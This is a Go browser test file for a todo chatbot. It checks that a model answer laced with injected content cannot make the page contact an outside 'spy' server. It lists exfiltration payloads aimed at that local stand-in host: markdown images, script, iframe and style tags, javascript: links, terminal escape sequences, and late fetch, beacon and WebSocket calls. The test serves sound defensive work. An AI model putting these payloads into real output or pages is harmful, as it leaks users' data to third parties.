package browser

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/todo-chatbot/todo-chatbot/internal/fakeopenai"
)

// withModel runs the app for one person with a language model that thinks so.
func withModel(t *testing.T, think func(fakeopenai.Request) fakeopenai.Answer) *program {
	t.Helper()
	provider := httptest.NewServer(&fakeopenai.Provider{Think: think})
	t.Cleanup(provider.Close)
	return runLocal(t, t.TempDir(), "ASSISTANT=openai", "OPENAI_BASE_URL="+provider.URL+"/v1", "OPENAI_MODEL=fake")
}

func TestThePageSaysThatAnotherAssistantAnswered(t *testing.T) {
	for name, c := range map[string]struct {
		answer fakeopenai.Answer
		notice string
	}{
		"when the provider is down":   {fakeopenai.Answer{Status: 503, RetryAfter: "0"}, "cannot be reached"},
		"when the key is refused":     {fakeopenai.Answer{Status: 401}, "refused"},
		"when the account is used up": {fakeopenai.Answer{Status: 429, Error: "insufficient_quota"}, "too much to do"},
	} {
		t.Run(name, func(t *testing.T) {
			page := session(t, withModel(t, func(fakeopenai.Request) fakeopenai.Answer { return c.answer }).url)
			page.size(1440, 900, false)
			page.say("add buy milk tomorrow")
			page.sees(id("receipt"), "Buy milk")
			page.sees(id("notice"), c.notice)
			page.sees(id("task-row"), "Buy milk")
			page.accessible("an answer of another assistant")
			page.do(chromedp.Reload())
			page.sees(id("notice"), c.notice)
		})
	}
}

// spyServer is a host to which an injected answer wants the page to send what
// it knows. It remembers what came.
func spyServer(t *testing.T) (url string, came func() []string) {
	t.Helper()
	var mu sync.Mutex
	var all []string
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		all = append(all, r.Method+" "+r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(s.Close)
	return s.URL, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), all...)
	}
}

func TestNothingThatAModelSaysMakesThePageAskAnotherServer(t *testing.T) {
	spy, came := spyServer(t)
	hostile := strings.ReplaceAll(strings.Join([]string{
		"![milk](SPY/image?list=milk)", "[click here](SPY/link?list=milk)", "<SPY/auto>", "SPY/bare?list=milk",
		`<img src="SPY/img">`, `<script src="SPY/script"></script>`, `<link rel=stylesheet href="SPY/style">`, `<iframe src="SPY/frame"></iframe>`,
		`<svg><image href="SPY/svg"/></svg>`, `<style>@import "SPY/import";</style>`, `<meta http-equiv=refresh content="0;url=SPY/refresh">`,
		"[ref]: SPY/ref", "![x][ref]", "[js](javascript:fetch('SPY/js'))", "`SPY/code`", "**![b](SPY/bold)**", "- ![l](SPY/list)",
		"\u001b]8;;SPY/osc\u0007here\u001b]8;;\u0007", "\u202eSPY/bidi",
	}, "\n\n"), "SPY", spy)
	app := withModel(t, func(r fakeopenai.Request) fakeopenai.Answer {
		if r.Messages[len(r.Messages)-1].Role == "tool" {
			return fakeopenai.Answer{Text: hostile, Piece: 7}
		}
		return fakeopenai.Answer{Calls: []fakeopenai.Call{{Name: "add_task", Arguments: `{"tasks":[{"title":"![t](` + spy + `/title)","description":"<img src=` + spy + `/note>"}]}`}}}
	})
	page := session(t, app.url)
	page.size(1440, 900, false)
	page.say("add a task")
	page.sees(".turn .prose", "milk ("+strings.TrimPrefix(spy, "http://")+")")
	page.sees(".turn .prose", "<script src=")
	page.sees(id("task-row"), "/title")
	// A link may be there: it loads nothing, and says where it leads.
	if got := eval[int](page, `[...document.querySelectorAll('[data-testid=turn] *, [data-testid=task-row] *')].filter(e => (e.href && !(e.tagName === 'A' && e.href.startsWith('http') && e.rel.includes('noreferrer') && e.parentElement.textContent.includes(new URL(e.href).host))) || e.src || ['IMG', 'IFRAME', 'SCRIPT', 'STYLE', 'LINK', 'META'].includes(e.tagName) || e.tagName.toLowerCase() === 'image').length`); got != 0 {
		t.Errorf("the words became %d elements that name an address", got)
	}
	page.click(".line-title", "/title")
	page.sees(`dialog, [role=dialog]`, "")
	page.do(chromedp.Reload())
	page.sees(".turn .prose", "click here (")

	t.Run("and what is smuggled into the page by other means is stopped by its policy", func(t *testing.T) {
		page.forbidden = true
		blocked := eval[[]string](page, strings.ReplaceAll(`(async () => {
			const seen = [];
			document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
			const img = new Image(); img.src = 'SPY/late-image'; document.body.append(img);
			const script = document.createElement('script'); script.src = 'SPY/late-script'; document.body.append(script);
			const frame = document.createElement('iframe'); frame.src = 'SPY/late-frame'; document.body.append(frame);
			const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = 'SPY/late-style'; document.head.append(style);
			await fetch('SPY/late-fetch').catch(() => {});
			try { navigator.sendBeacon('SPY/late-beacon'); new WebSocket('SPY/late-socket'.replace('http', 'ws')); new EventSource('SPY/late-events'); } catch {}
			await new Promise(done => setTimeout(done, 300));
			return [...new Set(seen)].sort();
		})()`, "SPY", spy))
		if got := strings.Join(blocked, " "); got != "connect-src frame-src img-src script-src-elem style-src-elem" {
			t.Errorf("the policy stopped %s", got)
		}
	})
	if got := came(); len(got) != 0 {
		t.Errorf("the other server was asked for %q", got)
	}
}
